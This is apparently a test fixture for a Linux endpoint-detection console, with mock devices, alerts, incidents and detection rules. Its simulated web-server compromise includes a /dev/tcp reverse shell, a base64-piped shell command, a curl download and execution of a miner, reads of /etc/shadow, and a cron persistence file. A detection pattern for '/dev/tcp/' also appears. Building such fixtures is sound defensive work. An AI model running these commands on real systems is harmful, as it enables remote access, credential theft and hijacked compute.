// The data of the mock server: one rich incident and enough around it to fill every list. Tests only.

export const NOW = Date.now();
export const at = (secondsAgo) => new Date(NOW - secondsAgo * 1000).toISOString().replace('Z', '000Z');
const hex = (seed, length) => {
  let text = '';
  let x = seed * 2654435761 + 12345;
  while (text.length < length) {
    x = (x * 1103515245 + 12345) % 2147483648;
    text += x.toString(16).padStart(8, '0');
  }
  return text.slice(0, length);
};
export const deviceId = (n) => hex(n + 7, 40);
export const alertId = (n) => `al${hex(n + 1000, 32)}`;
const BOOT = '0f1e2d3c';
export const key = (pid) => `${BOOT}-${(pid * 10_000_000).toString(16)}-${pid.toString(16)}`;

const HOSTS = [
  'web-01',
  'web-02',
  'db-01',
  'db-02',
  'build-07',
  'mail-01',
  'cache-03',
  'bastion',
  'ci-runner-12',
  'files-01',
];
export const devices = HOSTS.map((name, i) => ({
  id: deviceId(i),
  computerDnsName: `${name}.example.net`,
  osPlatform: 'Linux',
  osDistribution: i % 3 ? 'Debian' : 'Ubuntu',
  osVersion: i % 3 ? '12' : '24.04',
  kernelVersion: i % 3 ? '6.1.0-28-amd64' : '6.8.0-49-generic',
  osArchitecture: 'x64',
  agentVersion: '0.1.0',
  ipAddresses: [`10.20.${i}.${10 + i}`, `fe80::${i + 1}`],
  lastIpAddress: `10.20.${i}.${10 + i}`,
  firstSeen: at(86400 * (40 - i)),
  lastSeen: at(i === 5 ? 86400 * 3 : i * 7),
  healthStatus: [
    'Active',
    'Active',
    'Active',
    'NoSensorData',
    'Active',
    'Inactive',
    'Active',
    'Active',
    'ImpairedCommunication',
    'Active',
  ][i],
  healthIssues: i === 8 ? ['the disk queue is at 92 % of its cap'] : [],
  sight:
    i === 3
      ? { subsystem: 'fallback', missing: ['no network close with byte counts', 'no ptrace'] }
      : { subsystem: 'ebpf', missing: [] },
  riskScore: ['High', 'Medium', 'High', 'Low', 'UnSpecified'][i] ?? 'UnSpecified',
  activeAlertCount: [6, 1, 3, 1][i] ?? 0,
  machineTags: i < 2 ? ['production', 'web'] : i === 4 ? ['ci'] : [],
  contentVersion: '2026.11.23.1',
  revoked: false,
  rowCount: 1_284_221 - i * 90_000,
  lostRowCount: i === 8 ? 412 : 0,
}));

const TITLES = [
  ['Web server started a shell', 'High', 'InitialAccess', 'T1190'],
  ['Reverse shell over /dev/tcp', 'High', 'CommandAndControl', 'T1059.004'],
  ['Program dropped to /tmp and executed', 'Medium', 'Execution', 'T1204.002'],
  ['Persistence through a cron file', 'Medium', 'Persistence', 'T1053.003'],
  ['Credential file read by an unusual program', 'High', 'CredentialAccess', 'T1003.008'],
  ['Crypto-miner command line', 'Low', 'Impact', 'T1496'],
];
const RULE_IDS = TITLES.map((_, i) => `garrison-linux-${String(i + 1).padStart(3, '0')}`);

const t0 = 540;
function node(pid, fileName, folder, commandLine, account, seconds, extra = {}) {
  return {
    processUniqueId: key(pid),
    processId: pid,
    fileName,
    folderPath: folder,
    commandLine,
    sha256: hex(pid, 64),
    accountName: account,
    creationTime: at(t0 - seconds),
    exitTime: null,
    alertIds: [],
    activities: [],
    children: [],
    ...extra,
  };
}
function activity(seconds, table, actionType, summary, row = {}, alertIds = []) {
  return {
    timestamp: at(t0 - seconds),
    table,
    actionType,
    summary,
    alertIds,
    row: {
      Timestamp: at(t0 - seconds),
      DeviceId: deviceId(0),
      DeviceName: devices[0].computerDnsName,
      ActionType: actionType,
      ReportId: 40_000 + Math.round(seconds * 10),
      ...row,
    },
  };
}

const miner = node(
  4188,
  'kworkerd',
  '/tmp/.x',
  '/tmp/.x/kworkerd -o stratum+tcp://pool.example.org:3333 -u 46xQ --donate-level 1 --cpu-priority 5 --threads 8',
  'www-data',
  61.2,
  {
    alertIds: [alertId(5)],
    activities: [
      activity(61.6, 'DeviceNetworkEvents', 'DnsQueryResponse', 'pool.example.org → 203.0.113.77', {
        AdditionalFields: '{"DnsQuery":"pool.example.org"}',
      }),
      activity(61.8, 'DeviceNetworkEvents', 'ConnectionAttempt', '203.0.113.77:3333 tcp', {
        RemoteIP: '203.0.113.77',
        RemotePort: 3333,
        Protocol: 'Tcp',
      }),
    ],
  },
);
const reverse = node(4140, 'bash', '/usr/bin', "bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'", 'www-data', 21.4, {
  alertIds: [alertId(1)],
  activities: [
    activity(
      21.5,
      'DeviceNetworkEvents',
      'ConnectionSuccess',
      '127.0.0.1:4444 tcp',
      { RemoteIP: '127.0.0.1', RemotePort: 4444 },
      [alertId(1)],
    ),
  ],
  children: [
    node(4141, 'bash', '/usr/bin', 'bash -i', 'www-data', 21.6, {
      children: [
        node(4150, 'id', '/usr/bin', 'id', 'www-data', 24, { exitTime: at(t0 - 24.01) }),
        node(4152, 'uname', '/usr/bin', 'uname -a', 'www-data', 25.1, { exitTime: at(t0 - 25.11) }),
        node(
          4160,
          'curl',
          '/usr/bin',
          'curl -fsSL http://127.0.0.1:8000/kworkerd -o /tmp/.x/kworkerd',
          'www-data',
          40,
          {
            exitTime: at(t0 - 41.2),
            activities: [
              activity(40.2, 'DeviceNetworkEvents', 'ConnectionSuccess', '127.0.0.1:8000 tcp', {
                RemoteIP: '127.0.0.1',
                RemotePort: 8000,
              }),
              activity(40.9, 'DeviceFileEvents', 'FileCreated', '/tmp/.x/kworkerd', {
                FolderPath: '/tmp/.x/kworkerd',
                FileName: 'kworkerd',
                SHA256: hex(4188, 64),
              }),
            ],
          },
        ),
        node(4166, 'chmod', '/usr/bin', 'chmod +x /tmp/.x/kworkerd', 'www-data', 45, {
          exitTime: at(t0 - 45.01),
          activities: [
            activity(45.005, 'DeviceFileEvents', 'FilePermissionChanged', '/tmp/.x/kworkerd 0644 → 0755', {
              FolderPath: '/tmp/.x/kworkerd',
            }),
          ],
        }),
        node(
          4180,
          'sh',
          '/usr/bin',
          "sh -c '/tmp/.x/kworkerd -o stratum+tcp://pool.example.org:3333 &'",
          'www-data',
          61,
          {
            alertIds: [alertId(2)],
            children: [miner],
          },
        ),
        node(4201, 'sudo', '/usr/bin', 'sudo -n /usr/bin/python3 /tmp/.x/up.py', 'root', 80, {
          activities: [
            activity(80.1, 'DeviceLogonEvents', 'LogonSuccess', 'sudo: www-data → root', { AccountName: 'root' }),
          ],
          children: [
            node(4203, 'python3', '/usr/bin', '/usr/bin/python3 /tmp/.x/up.py', 'root', 80.3, {
              activities: [
                activity(
                  81,
                  'DeviceFileEvents',
                  'FileRead',
                  '/etc/shadow',
                  { FolderPath: '/etc/shadow', FileName: 'shadow' },
                  [alertId(4)],
                ),
                activity(82.5, 'DeviceEvents', 'PtraceCall', 'attach to sshd (812)', {
                  AdditionalFields: '{"TargetProcessId":812}',
                }),
                activity(
                  84,
                  'DeviceFileEvents',
                  'FileCreated',
                  '/etc/cron.d/logrotate-sync',
                  { FolderPath: '/etc/cron.d/logrotate-sync', FileName: 'logrotate-sync' },
                  [alertId(3)],
                ),
              ],
            }),
          ],
        }),
      ],
    }),
  ],
});
const root = node(1, 'systemd', '/usr/lib/systemd', '/sbin/init', 'root', -86400 * 3, {
  children: [
    node(
      902,
      'nginx',
      '/usr/sbin',
      'nginx: master process /usr/sbin/nginx -g daemon on; master_process on;',
      'root',
      -86400 * 3 + 4,
      {
        children: [
          node(911, 'php-fpm8.2', '/usr/sbin', 'php-fpm: pool www', 'www-data', -86400 * 3 + 6, {
            activities: [
              activity(18.2, 'DeviceNetworkEvents', 'InboundConnectionAccepted', '198.51.100.23:52114 → :443', {
                RemoteIP: '198.51.100.23',
              }),
            ],
            children: [
              node(
                4131,
                'sh',
                '/usr/bin',
                'sh -c \'echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh; bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"\'',
                'www-data',
                19,
                {
                  alertIds: [alertId(0)],
                  children: [
                    node(4133, 'base64', '/usr/bin', 'base64 -d', 'www-data', 19.2, { exitTime: at(t0 - 19.3) }),
                    node(4134, 'sh', '/usr/bin', 'sh', 'www-data', 19.2, {
                      exitTime: at(t0 - 19.6),
                      children: [
                        node(4136, 'cat', '/usr/bin', 'cat /etc/passwd', 'www-data', 19.4, { exitTime: at(t0 - 19.5) }),
                      ],
                    }),
                    reverse,
                  ],
                },
              ),
            ],
          }),
        ],
      },
    ),
  ],
});
export const tree = { device: { id: deviceId(0), name: devices[0].computerDnsName }, root };

function makeAlert(n, kind, device, incident, seconds, change = {}) {
  const [title, severity, category, technique] = TITLES[kind];
  const command = kind === 1 ? reverse.commandLine : kind === 5 ? miner.commandLine : "sh -c 'id; uname -a'";
  return {
    id: alertId(n),
    title,
    description:
      'A process below a web server started an interactive program. Web servers rarely do so; attackers who run code through a web application nearly always do.',
    recommendedAction:
      'Look at the request that led here, take the machine off the network, and look for files written by the same account.',
    alertCreationTime: at(seconds - 1),
    firstEventTime: at(seconds),
    lastEventTime: at(seconds - 0.5),
    lastUpdateTime: at(seconds - 1),
    resolvedTime: null,
    incidentId: incident,
    investigationState: 'Unknown',
    assignedTo: null,
    mitreTechniques: [technique],
    relatedUser: n % 4 === 3 ? 'root' : 'www-data',
    severity,
    status: 'New',
    classification: null,
    determination: null,
    category,
    detectionSource: 'EndpointDetection',
    detectorId: RULE_IDS[kind],
    machineId: deviceId(device),
    computerDnsName: devices[device].computerDnsName,
    matchCount: kind === 5 ? 14 : 1,
    processUniqueId: key(4140),
    suppressed: false,
    evidence: [
      {
        entityType: 'Process',
        role: 'Impacted',
        evidenceCreationTime: at(seconds),
        fileName: 'bash',
        filePath: '/usr/bin/bash',
        processId: 4140,
        processUniqueId: key(4140),
        processCommandLine: command,
        processCreationTime: at(seconds),
        parentProcessId: 4131,
        parentProcessFileName: 'sh',
        sha256: hex(4140, 64),
        accountName: 'www-data',
      },
      {
        entityType: 'File',
        role: 'Related',
        evidenceCreationTime: at(seconds),
        fileName: 'kworkerd',
        filePath: '/tmp/.x/kworkerd',
        sha256: hex(4188, 64),
      },
      { entityType: 'Ip', role: 'Related', evidenceCreationTime: at(seconds), ipAddress: '203.0.113.77' },
      {
        entityType: 'User',
        role: 'Impacted',
        evidenceCreationTime: at(seconds),
        accountName: 'www-data',
        userSid: '33',
      },
      { entityType: 'Url', role: 'Related', evidenceCreationTime: at(seconds), url: 'pool.example.org' },
    ],
    matches: [
      {
        table: 'DeviceProcessEvents',
        timestamp: at(seconds),
        fields: [
          {
            selection: 'selection',
            field: 'CommandLine',
            column: 'ProcessCommandLine',
            test: "contains '/dev/tcp/'",
            value: command,
          },
          {
            selection: 'selection_parent',
            field: 'ParentImage',
            column: 'InitiatingProcessFolderPath',
            test: "endswith '/sh'",
            value: '/usr/bin/sh',
          },
        ],
        row: {
          Timestamp: at(seconds),
          DeviceId: deviceId(device),
          DeviceName: devices[device].computerDnsName,
          ActionType: 'ProcessCreated',
          FileName: 'bash',
          FolderPath: '/usr/bin/bash',
          ProcessId: 4140,
          ProcessCommandLine: command,
          AccountName: 'www-data',
          AccountSid: '33',
          SHA256: hex(4140, 64),
          InitiatingProcessFileName: 'sh',
          InitiatingProcessFolderPath: '/usr/bin/sh',
          InitiatingProcessId: 4131,
          ReportId: 41_220,
          AdditionalFields: '{"Cwd":"/var/www/html","Tty":""}',
        },
      },
    ],
    comments: [],
    ...change,
  };
}

export const alerts = TITLES.map((_, kind) => makeAlert(kind, kind, 0, 42, t0 - 20 - kind * 12));
export const incidents = [];
function makeIncident(id, title, severity, status, device, seconds, change = {}) {
  return {
    id,
    title,
    severity,
    status,
    assignedTo: null,
    classification: null,
    determination: null,
    categories: ['Execution'],
    mitreTechniques: ['T1059.004'],
    devices: [{ id: deviceId(device), name: devices[device].computerDnsName }],
    users: ['root'],
    activeAlertCount: 1,
    alertCount: 1,
    firstEventTime: at(seconds + 30),
    lastEventTime: at(seconds),
    createdTime: at(seconds + 29),
    lastUpdateTime: at(seconds),
    tags: [],
    redirectIncidentId: null,
    comments: [],
    ...change,
  };
}
incidents.push(
  makeIncident(
    42,
    'Multi-stage attack on web-01 through nginx, with reverse shell and persistence',
    'High',
    'Active',
    0,
    440,
    {
      categories: ['InitialAccess', 'Execution', 'Persistence', 'CredentialAccess', 'CommandAndControl', 'Impact'],
      mitreTechniques: TITLES.map((t) => t[3]),
      users: ['www-data', 'root'],
      activeAlertCount: 6,
      alertCount: 6,
      tags: ['web'],
      comments: [{ comment: 'The request came through the upload form.', createdBy: 'mira', createdTime: at(300) }],
    },
  ),
);
for (let i = 0; i < 130; i++) {
  const kind = (i * 5 + 1) % TITLES.length;
  const device = (i * 3 + 1) % devices.length;
  const seconds = 1800 + i * 17_000;
  const status = i % 5 === 4 ? 'Resolved' : i % 3 === 1 ? 'InProgress' : 'Active';
  const id = 41 - i > 0 ? 41 - i : 1000 + i;
  const alert = makeAlert(100 + i, kind, device, id, seconds, { status: status === 'Active' ? 'New' : status });
  alerts.push(alert);
  incidents.push(
    makeIncident(id, `${TITLES[kind][0]} on ${HOSTS[device]}`, TITLES[kind][1], status, device, seconds, {
      categories: [TITLES[kind][2]],
      mitreTechniques: [TITLES[kind][3]],
      users: [alert.relatedUser],
      assignedTo: status === 'Active' ? null : ['mira', 'admin', 'joon'][i % 3],
      activeAlertCount: status === 'Resolved' ? 0 : 1,
    }),
  );
}
export function newIncident(id) {
  const alert = makeAlert(5000 + id, 1, 1, id, 0);
  return {
    alert,
    incident: makeIncident(id, `Reverse shell over /dev/tcp on web-02 (${id})`, 'High', 'Active', 1, 0, {
      users: ['www-data'],
    }),
  };
}

const STEPS = [
  ['DeviceProcessEvents', 'ProcessCreated', 'bash', (i) => `/usr/bin/find /var/log -mtime +${i % 30}`],
  ['DeviceNetworkEvents', 'ConnectionSuccess', 'nginx', (i) => `10.20.3.${i % 250}:5432 tcp`],
  ['DeviceFileEvents', 'FileModified', 'rsyslogd', (i) => `/var/log/app/${i % 7}.log`],
  ['DeviceLogonEvents', 'LogonSuccess', 'sshd', () => 'ssh: deploy from 10.20.9.4'],
  ['DeviceNetworkEvents', 'DnsQueryResponse', 'systemd-resolve', () => 'deb.example.org → 192.0.2.10'],
  ['DeviceEvents', 'UserIdChanged', 'sudo', () => 'deploy → root'],
];
export function timelineRow(i, secondsAgo) {
  const [table, actionType, by, say] = STEPS[i % STEPS.length];
  const summary = say(i);
  const timestamp = new Date(Date.now() - secondsAgo * 1000).toISOString().replace('Z', '000Z');
  return {
    timestamp,
    table,
    actionType,
    summary,
    initiatingProcess: by,
    accountName: i % 3 ? 'root' : 'deploy',
    alertIds: i % 97 === 13 ? [alertId(1)] : [],
    row: {
      Timestamp: timestamp,
      ActionType: actionType,
      ReportId: 100_000 - i,
      BootId: `${BOOT}-0000-4000-8000-0123456789ab`,
      InitiatingProcessFileName: by,
      ProcessCommandLine: summary,
    },
  };
}

const SOURCE = (title, id) =>
  `title: ${title}\nid: ${id}\nstatus: stable\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  selection:\n    CommandLine|contains: '/dev/tcp/'\n  condition: selection\nlevel: high\n`;
export const rules = Array.from({ length: 90 }, (_, i) => {
  const [title, severity, category, technique] = TITLES[i % TITLES.length];
  const id = i < TITLES.length ? RULE_IDS[i] : `garrison-linux-${String(i + 1).padStart(3, '0')}`;
  return {
    id,
    title: i < TITLES.length ? title : `${title}, variant ${i}`,
    description: 'Looks for what an attacker does after getting in.',
    severity,
    category,
    mitreTechniques: [technique],
    kind: 'rule',
    origin: i % 11 === 10 ? 'imported' : 'shipped',
    status: 'stable',
    author: 'Garrison',
    tables: ['DeviceProcessEvents'],
    enabled: i % 9 !== 8,
    usable: i % 13 !== 12,
    diagnostics:
      i % 13 === 12
        ? [
            {
              code: 'SG0102',
              level: 'error',
              message: 'the modifier `utf16` is not known here',
              place: 'detection.selection.CommandLine|utf16',
              hint: 'use `wide`',
            },
          ]
        : [],
    falsePositives: ['Administrators who debug a web server'],
    recommendedAction: 'Look at the parent process.',
    alertCount30d: i < 6 ? 22 - i * 3 : 0,
    source: SOURCE(title, id),
  };
});
